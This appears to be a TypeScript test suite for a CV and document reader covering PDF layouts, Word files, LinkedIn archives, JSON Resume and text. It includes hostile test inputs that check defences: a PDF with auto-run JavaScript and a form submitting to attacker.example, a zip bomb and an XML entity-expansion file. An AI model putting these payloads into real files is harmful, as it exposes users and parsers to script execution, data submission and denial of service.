import { strToU8, zipSync } from "fflate";
import { describe, expect, test, vi } from "vitest";
import { docxOf, paragraph, tableOf, textBox, writeDocx } from "#tests/support/documents/docx-writer.ts";
import { type PdfItem, textWidth, writePdf } from "#tests/support/documents/pdf-writer.ts";
import { formatDateRange } from "../profile/date-range.ts";
import type { PersonProfile } from "../profile/parse-profile.ts";
import { readBytes } from "./read-bytes.ts";
import { DOCUMENT_LIMITS } from "./read-document.ts";

const TODAY = { year: 2026, month: 11 };
const CV =
  "Ida Beispiel\n\nExperience\nN26, Engineer\tJan 2019 - Present\nCelonis, Analyst\t2016 - 2018\n\nEducation\nTU München, MSc Informatics\t2010 - 2015";

/** Text at 11 points: each line at its left edge, a tab moves to the right margin. */
function page(lines: readonly string[], { x = 60, tab = 420, top = 60 } = {}): PdfItem[] {
  return lines.flatMap((line, index) =>
    line.split("\t").map((text, cell) => ({ text, x: cell === 0 ? x : tab, y: top + 15 * index, size: 11 })),
  );
}

/** An item for each letter, closer together or further apart than written. */
function lettersOf({ text, x, y, size }: PdfItem, spacing: number): readonly PdfItem[] {
  return Array.from({ length: text.length }, (_, at) => {
    const distance = spacing * textWidth(text.slice(0, at), size);
    return { text: text.charAt(at), x: x + distance, y, size };
  });
}

function positionsOf(profile: PersonProfile | null): readonly string[] {
  return (profile?.positions ?? []).map(
    ({ company, title, dates }) => `${company} | ${title} | ${formatDateRange(dates, TODAY)}`,
  );
}

const CV_POSITIONS = ["N26 | Engineer | Jan 2019 - Present", "Celonis | Analyst | 2016 - 2018"];

describe("PDF", () => {
  test("reads a CV with dates at the right margin row by row", async () => {
    const { kind, text, textProfile, pages } = await readBytes("cv.pdf", writePdf([page(CV.split("\n"))]));
    expect({ kind, pages }).toEqual({ kind: "pdf", pages: 1 });
    expect(text).toContain("N26, Engineer\tJan 2019 - Present");
    expect(positionsOf(textProfile)).toEqual(CV_POSITIONS);
    expect(textProfile?.fullName).toBe("Ida Beispiel");
  });

  test("reads the left column before the right one, below a name across both", async () => {
    const left = ["Skills", "TypeScript", "Rust", "Go", "Languages", "German", "English"];
    const right = ["Experience", "Engineer", "N26", "Jan 2019 - Present", "", "Analyst", "Celonis", "2016 - 2018"];
    const items = [
      { text: "Ida Beispiel, engineer in Berlin and elsewhere", x: 60, y: 40, size: 20 },
      ...page(left, { top: 80 }),
      ...page(right, { x: 240, top: 80 }),
    ];
    const { text, textProfile } = await readBytes("cv.pdf", writePdf([items]));
    expect(text.replaceAll(/\n+/g, "\n")).toBe(
      ["Ida Beispiel, engineer in Berlin and elsewhere", ...left, ...right].filter((line) => line !== "").join("\n"),
    );
    expect(positionsOf(textProfile)).toEqual([
      "N26 | Engineer | Jan 2019 - Present",
      "Celonis | Analyst | 2016 - 2018",
    ]);
  });

  test.each<{ name: string; rows: readonly (readonly [dates: string, text: string])[] }>([
    {
      name: "two lines",
      rows: [
        ["January 2019 –", "Engineer"],
        ["Present", "N26"],
        ["", "Built the ledger of the bank and led its team"],
        ["2016 –", "Analyst"],
        ["2018", "Celonis"],
      ],
    },
    {
      name: "two lines, above the place",
      rows: [
        ["January", "Engineer"],
        ["2019 – today", "N26"],
        ["Berlin", "Built the ledger of the bank and led its team"],
        ["2016 –", "Analyst"],
        ["2018", "Celonis"],
        ["Munich", "Counted many things"],
      ],
    },
  ])("reads dates at the left margin over $name", async ({ rows }) => {
    const items = rows.flatMap(([dates, text], row) => {
      const y = 90 + 14 * row + (row > 2 ? 20 : 0);
      return [
        { text: dates, x: 60, y, size: 11 },
        { text, x: 150, y, size: 11 },
      ];
    });
    const heading = { text: "Experience", x: 60, y: 50, size: 14 };
    const { textProfile } = await readBytes("cv.pdf", writePdf([[heading, ...items]]));
    expect(positionsOf(textProfile)).toEqual(CV_POSITIONS);
  });

  test.each<{ name: string; layOut: (item: PdfItem) => readonly PdfItem[] }>([
    {
      name: "with one item for each letter and none for blanks",
      layOut: (item) => lettersOf(item, 1).filter(({ text }) => text !== " "),
    },
    {
      name: "with kerned letters",
      layOut: (item) => lettersOf(item, 0.95),
    },
    {
      name: "printed twice, as a shadow",
      layOut: (item) => [item, { text: item.text, x: item.x + 0.4, y: item.y + 0.3, size: item.size }],
    },
    {
      name: "with ligatures and no-break spaces",
      layOut: (item) => [{ ...item, text: item.text.replaceAll(" ", "\u00a0").replaceAll("fi", "\ufb01") }],
    },
    {
      name: "with letter-spaced headings and name",
      layOut: (item) => (/^(?:Experience|Education|Ida Beispiel)$/.test(item.text) ? lettersOf(item, 1.5) : [item]),
    },
  ])("reads text $name", async ({ layOut }) => {
    const { textProfile } = await readBytes("cv.pdf", writePdf([page(CV.split("\n")).flatMap(layOut)]));
    expect(positionsOf(textProfile)).toEqual(CV_POSITIONS);
    expect(textProfile?.fullName?.replaceAll(/\s/g, "")).toBe("IdaBeispiel");
  });

  test("takes a CV with a large name in the middle as a CV", async () => {
    const name = { text: "Ida Beispiel", x: 220, y: 40, size: 24 };
    const { kind, textProfile } = await readBytes(
      "cv.pdf",
      writePdf([[name, ...page(CV.split("\n"), { x: 22, top: 80 })]]),
    );
    expect(kind).toBe("pdf");
    expect(positionsOf(textProfile)).toEqual(CV_POSITIONS);
  });

  test("joins hyphenated words and drops page numbers and repeated lines", async () => {
    const body = (text: string, number: number) => [
      ...page(
        [
          text,
          "mentation of the new platform for all teams of the company",
          "Built with a self-service Software-",
          "Entwicklung",
        ],
        { top: 160 },
      ),
      { text: "Curriculum vitae of Ida Beispiel", x: 60, y: 770, size: 9 },
      { text: `Page ${number} of 2`, x: 500, y: 785, size: 9 },
    ];
    const pages = [
      body("She led the whole design, planning and imple-", 1),
      body("Later she led another large imple-", 2),
    ];
    const { text } = await readBytes("cv.pdf", writePdf(pages));
    expect(text).toContain("planning and implementation of the new platform");
    expect(text).toContain("Software-Entwicklung");
    expect(text).not.toMatch(/Page|Curriculum/);
  });

  test("reads the first 50 of 300 pages and says so", async () => {
    const pages = Array.from({ length: 300 }, (_, index) =>
      page(["", "", "", `This is the text of page ${index + 1}.`]),
    );
    const { text, notice, problem } = await readBytes("thesis.pdf", writePdf(pages));
    expect({ notice, problem }).toEqual({ notice: "Read the first 50 of 300 pages.", problem: null });
    expect(text).toContain("text of page 50.");
    expect(text).not.toContain("text of page 51.");
  });

  test("never runs a script, a link or a form of the file", async () => {
    const script = "(globalThis.wasRun = true; app.alert\\(1\\))";
    const catalog = `/OpenAction << /S /JavaScript /JS ${script} >> /AA << /WC << /S /JavaScript /JS ${script} >> >> /Names << /JavaScript << /Names [(run) << /S /JavaScript /JS ${script} >>] >> >> /AcroForm << /NeedAppearances true /Fields [<< /FT /Tx /T (name) /V (form value) /AA << /C << /S /JavaScript /JS ${script} >> >> >> << /FT /Btn /T (send) /A << /S /SubmitForm /F (https://attacker.example/) >> >>] >> /URI << /Base (https://attacker.example/) >>`;
    const requested = vi.spyOn(globalThis, "fetch");
    const { problem, text } = await readBytes("cv.pdf", writePdf([page(CV.split("\n"))], { catalog }));
    expect(problem).toBeNull();
    expect(text).toContain("Celonis");
    expect(text).not.toContain("form value");
    expect("wasRun" in globalThis).toBe(false);
    expect(requested).not.toHaveBeenCalled();
    requested.mockRestore();
  });

  test("reads a PDF of 25 MB", async () => {
    const pdf = writePdf([page(CV.split("\n"))]);
    const large = new Uint8Array(DOCUMENT_LIMITS.bytes).fill(32);
    // Blanks between the objects and the table of their places, as pictures would be
    large.set(pdf);
    const { problem, textProfile } = await readBytes("cv.pdf", large);
    expect(problem).toBeNull();
    expect(positionsOf(textProfile)).toEqual(CV_POSITIONS);
  });

  test("joins the wrapped lines of a bullet and of a name in brackets", async () => {
    const lines = [
      { text: "Experience", x: 60, y: 60, size: 14 },
      { text: "Head of Data (Platform Engineering, Developer", x: 60, y: 84, size: 11 },
      { text: "2019 - 2020", x: 480, y: 84, size: 11 },
      { text: "Experience and Tools)", x: 60, y: 98, size: 11 },
      { text: "N26", x: 60, y: 112, size: 11 },
      { text: "•", x: 64, y: 126, size: 11 },
      { text: "Led the migration of the whole platform in four", x: 76, y: 126, size: 11 },
      { text: "Countries", x: 76, y: 140, size: 11 },
      { text: "Analyst", x: 60, y: 154, size: 11 },
      { text: "2016 - 2018", x: 480, y: 154, size: 11 },
      { text: "Celonis", x: 60, y: 168, size: 11 },
    ];
    const { text, textProfile } = await readBytes("cv.pdf", writePdf([lines]));
    expect(text).toContain("(Platform Engineering, Developer Experience and Tools)\t2019 - 2020");
    expect(text).toContain("in four Countries\n");
    expect(textProfile?.positions.map(({ company }) => company)).toEqual(["N26", "Celonis"]);
  });

  test("joins the wrapped lines of a sentence whose bullet is drawn as a shape", async () => {
    const entry = (y: number, title: string, dates: string, company: string) => [
      { text: title, x: 60, y, size: 11 },
      { text: dates, x: 552 - textWidth(dates, 11), y, size: 11 },
      { text: company, x: 60, y: y + 14, size: 11 },
    ];
    const sentence = "Verantwortung für die Einführung der Plattform und Schulung der Kollegen an allen";
    const lines = [
      { text: "Berufserfahrung", x: 60, y: 60, size: 14 },
      ...entry(84, "Projektleiterin", "2019 – 2021", "N26"),
      { text: sentence, x: 552 - textWidth(`${sentence} `, 11), y: 112, size: 11 },
      { text: "Standorten", x: 552 - textWidth(`${sentence} `, 11), y: 126, size: 11 },
      ...entry(140, "Analystin", "2016 – 2018", "Celonis"),
    ];
    const { text, textProfile } = await readBytes("cv.pdf", writePdf([lines]));
    expect(text).toContain("an allen Standorten\nAnalystin");
    expect(positionsOf(textProfile)).toEqual([
      "N26 | Projektleiterin | 2019 - 2021",
      "Celonis | Analystin | 2016 - 2018",
    ]);
  });

  test("reads a table of dates beside a column with its own headings", async () => {
    const rows = [
      ["2021 –", "Head of Data"],
      ["heute", "N26"],
      ["2019 –", "Analyst"],
      ["2021", "Celonis"],
      ["2016 –", "Engineer"],
      ["2018", "Zalando"],
    ].flatMap(([dates = "", text = ""], row) => [
      { text: dates, x: 60, y: 90 + 14 * row, size: 11 },
      { text, x: 150, y: 90 + 14 * row, size: 11 },
    ]);
    const side = ["Kenntnisse", "Python", "Excel", "Moderation", "Sprachen", "Deutsch", "English"].map((text, row) => ({
      text,
      x: 430,
      y: 76 + 14 * row,
      size: 11,
    }));
    const heading = { text: "Berufserfahrung", x: 60, y: 70, size: 14 };
    const { textProfile } = await readBytes("cv.pdf", writePdf([[heading, ...rows, ...side]]));
    expect(positionsOf(textProfile)).toEqual([
      "N26 | Head of Data | 2021 - Present",
      "Celonis | Analyst | 2019 - 2021",
      "Zalando | Engineer | 2016 - 2018",
    ]);
  });

  test.each([
    {
      language: "Georgian",
      lines: ["გიორგი მაგალითი", "გამოცდილება", "თიბისი ბანკი", "ანალიტიკოსი", "მარტი 2019 – დღემდე"],
    },
    { language: "Arabic", lines: ["سيرة ذاتية", "الخبرة", "شركة المثال", "محلل بيانات", "٢٠١٩ - ٢٠٢١"] },
    { language: "Thai", lines: ["ประวัติย่อ", "ประสบการณ์", "ธนาคารตัวอย่าง", "นักวิเคราะห์", "2562 - 2564"] },
  ])("reads a CV in $language as text and invents nothing", async ({ lines }) => {
    const { text, textProfile, problem } = await readBytes("cv.txt", strToU8(lines.join("\n")));
    expect({ text, problem }).toEqual({ text: lines.join("\n"), problem: null });
    for (const { company, title } of textProfile?.positions ?? [])
      for (const name of [company, title]) if (name !== null) expect(lines).toContain(name);
  });
});

describe("other kinds", () => {
  test("reads a Word document, with a table row by row, without deleted text", async () => {
    const docx = writeDocx([
      "Ida Beispiel",
      "",
      "Berufserfahrung",
      ["01/2019 – heute", "N26\nSoftware Engineer"],
      ["2016 – 2018", "Celonis\nAnalyst"],
      "• Deutsch",
    ]);
    const { kind, text, textProfile } = await readBytes("cv.docx", docx);
    expect(kind).toBe("docx");
    expect(text).toBe(
      "Ida Beispiel\n\nBerufserfahrung\n01/2019 – heute\tN26\nSoftware Engineer\n2016 – 2018\tCelonis\nAnalyst\n• Deutsch",
    );
    expect(positionsOf(textProfile)).toEqual([
      "N26 | Software Engineer | Jan 2019 - Present",
      "Celonis | Analyst | 2016 - 2018",
    ]);
    const tracked = docxOf(
      `<w:p><w:r><w:t>Engineer</w:t></w:r><w:del><w:r><w:delText>x</w:delText><w:t>deleted</w:t></w:r></w:del><w:r><w:instrText>PAGE</w:instrText></w:r></w:p>`,
    );
    expect((await readBytes("cv.docx", tracked)).text).toBe("Engineer");
  });

  describe("a Word document", () => {
    const CAREER = ["Berufserfahrung", "01/2019 – heute\tN26\tSoftware Engineer", "2016 – 2018\tCelonis\tAnalyst"];
    const POSITIONS = ["N26 | Software Engineer | Jan 2019 - Present", "Celonis | Analyst | 2016 - 2018"];
    const SIDEBAR = ["Kontakt", "Ida@mail.example", "Kiel", "Kenntnisse", "Python"];
    const read = async (docx: Uint8Array) => readBytes("cv.docx", docx);
    const pageBreak = '<w:p><w:r><w:br w:type="page"/></w:r></w:p>';

    test("with its career in a text box, once, after the paragraph that holds the box", async () => {
      const anchor = `<w:p><w:r><w:t>Ida Beispiel</w:t></w:r>${textBox(SIDEBAR)}${textBox(CAREER)}</w:p>`;
      const { text, textProfile } = await read(docxOf(`${anchor}${paragraph("• Deutsch")}`));
      expect(text).toBe(`Ida Beispiel\n\n${SIDEBAR.join("\n")}\n\n${CAREER.join("\n")}\n\n• Deutsch`);
      expect(positionsOf(textProfile)).toEqual(POSITIONS);
      expect(textProfile?.fullName).toBe("Ida Beispiel");
    });

    test("with the name in its header, page numbers and a footer", async () => {
      const number = paragraph("Seite 1 von 2");
      const parts = {
        header1: paragraph("Ida Beispiel") + paragraph("Lebenslauf") + number,
        header2: paragraph("Ida Beispiel") + number,
        footer1: paragraph("ida@mail.example") + number,
      };
      const { text, textProfile } = await read(docxOf(CAREER.map(paragraph).join(""), parts));
      expect(text).toBe(`Ida Beispiel\nLebenslauf\n\n${CAREER.join("\n")}\n\nida@mail.example`);
      expect(textProfile?.fullName).toBe("Ida Beispiel");
      expect(positionsOf(textProfile)).toEqual(POSITIONS);
    });

    test("that is a table of a short and a long column, column by column", async () => {
      const long = ["Ida Beispiel", ...CAREER, "Ausbildung", "2010 – 2015\tTU München", "Interessen", "Segeln"];
      const { text, textProfile } = await read(docxOf(tableOf([[SIDEBAR.join("\n"), long.join("\n")]])));
      expect(text).toBe(`${SIDEBAR.join("\n")}\n\n${long.join("\n")}`);
      expect(positionsOf(textProfile)).toEqual(POSITIONS);
    });

    test("with a page break between two positions", async () => {
      const body = [paragraph("Ida Beispiel"), paragraph(""), ...CAREER.slice(0, 2).map(paragraph), pageBreak];
      const { textProfile } = await read(docxOf(body.concat(paragraph(CAREER[2] ?? "")).join("")));
      expect(positionsOf(textProfile)).toEqual(POSITIONS);
    });

    test("says what it does not read, and that a picture has no text", async () => {
      const note = "<w:p><w:r><w:t>Ida</w:t><w:footnoteReference/></w:r></w:p><w:altChunk/>";
      expect((await read(docxOf(note))).notice).toBe("Not read: footnotes, embedded documents.");
      const { problem } = await read(docxOf("<w:p><w:r><w:drawing/></w:r></w:p>"));
      expect(problem).toEqual({
        code: "picture_only",
        message: "This Word document has no text. Save the CV as text first.",
      });
    });
  });

  test("reads LinkedIn's data archive", async () => {
    const archive = zipSync({
      "Basic/Profile.csv": strToU8('First Name,Last Name,Headline\r\nIda,Beispiel,"Founder, Tidewright"\r\n'),
      "Basic/Positions.csv": strToU8(
        'Company Name,Title,Description,Location,Started On,Finished On\nN26,Engineer,"Two\nlines",Berlin,Mar 2020,\nCelonis,Analyst,,,2016,2018\n',
      ),
      "Basic/Education.csv": strToU8(
        "School Name,Start Date,End Date,Notes,Degree Name,Activities\nTU München,2010,2015,,MSc,\n",
      ),
      "Basic/Connections.csv": strToU8("never read"),
    });
    const { kind, profile, text } = await readBytes("Basic_LinkedInDataExport.zip", archive);
    expect(kind).toBe("linkedin_archive");
    expect(profile).toMatchObject({ fullName: "Ida Beispiel", headline: "Founder, Tidewright" });
    expect(positionsOf(profile)).toEqual(["N26 | Engineer | Mar 2020 - Present", "Celonis | Analyst | 2016 - 2018"]);
    expect(profile?.positions[0]?.description).toBe("Two\nlines");
    expect(profile?.educations).toMatchObject([{ school: "TU München", degree: "MSc" }]);
    expect(text).not.toContain("never read");
  });

  test("reads JSON Resume, and as plain text if asked", async () => {
    const resume = {
      basics: {
        name: "Ida Beispiel",
        label: "Engineer",
        profiles: [{ network: "LinkedIn", url: "https://linkedin.com/in/ida" }],
      },
      work: [
        { name: "N26", position: "Engineer", startDate: "2019-01-15", highlights: ["Built it"] },
        { company: "Celonis", position: "Analyst", startDate: "2016", endDate: "2018" },
      ],
      education: [
        { institution: "TU München", studyType: "MSc", area: "Informatics", startDate: "2010", endDate: "2015" },
      ],
    };
    const bytes = strToU8(JSON.stringify(resume));
    const { kind, profile } = await readBytes("resume.json", bytes);
    expect(kind).toBe("json_resume");
    expect(positionsOf(profile)).toEqual(CV_POSITIONS);
    expect(profile).toMatchObject({
      url: "https://www.linkedin.com/in/ida",
      educations: [{ fieldOfStudy: "Informatics" }],
    });
    expect((await readBytes("resume.json", bytes, { isPlainText: true })).kind).toBe("text");
  });

  test("reads text in any encoding", async () => {
    const latin = new Uint8Array(Buffer.from(CV, "latin1"));
    const { kind, text, textProfile } = await readBytes("cv.txt", latin);
    expect({ kind, text }).toEqual({ kind: "text", text: CV });
    expect(positionsOf(textProfile)).toEqual(CV_POSITIONS);
  });

  test("takes text that is no CV as text without a profile", async () => {
    const { textProfile, problem } = await readBytes("notes.md", strToU8("Call the bank on Monday.\nBuy milk."));
    expect({ textProfile, problem }).toEqual({ textProfile: null, problem: null });
  });
});

const zeros = zipSync({ "word/document.xml": new Uint8Array(60_000_000) });
const laughs = zipSync({
  "word/document.xml": strToU8('<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>'),
});

test.each([
  { name: "a PDF with a password", bytes: writePdf([page(["x"])], { isEncrypted: true }), code: "password" },
  { name: "a PDF without text", bytes: writePdf([[], []]), code: "picture_only" },
  { name: "a PDF that is cut off", bytes: strToU8("%PDF-1.7\n1 0 obj\n<<"), code: "damaged" },
  { name: "an empty file", bytes: new Uint8Array(), code: "empty" },
  { name: "a file above 25 MB", bytes: new Uint8Array(DOCUMENT_LIMITS.bytes + 1), code: "too_large" },
  { name: "a zip bomb", bytes: zeros, code: "unpacked_too_large" },
  { name: "declared entities", bytes: laughs, code: "damaged" },
  { name: "a .docx that is cut off", bytes: writeDocx(["Ida"]).subarray(0, 200), code: "damaged" },
  { name: "a workbook named .docx", bytes: zipSync({ "xl/workbook.xml": strToU8("<x/>") }), code: "unsupported" },
  { name: "an old Word file", bytes: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2]), code: "unsupported" },
  { name: "RTF", bytes: strToU8("{\\rtf1 Ida}"), code: "unsupported" },
  { name: "a web page", bytes: strToU8("<!doctype html><p>Ida"), code: "unsupported" },
  { name: "a photo", bytes: new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0]), code: "picture_only" },
  { name: "a program", bytes: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 3, 0, 2]), code: "unsupported" },
])("reports $name", async ({ bytes, code }) => {
  const { problem, text } = await readBytes("cv.docx", bytes);
  expect(problem?.code).toBe(code);
  expect(problem?.message).toMatch(/\.$/);
  expect(text).toBe("");
});
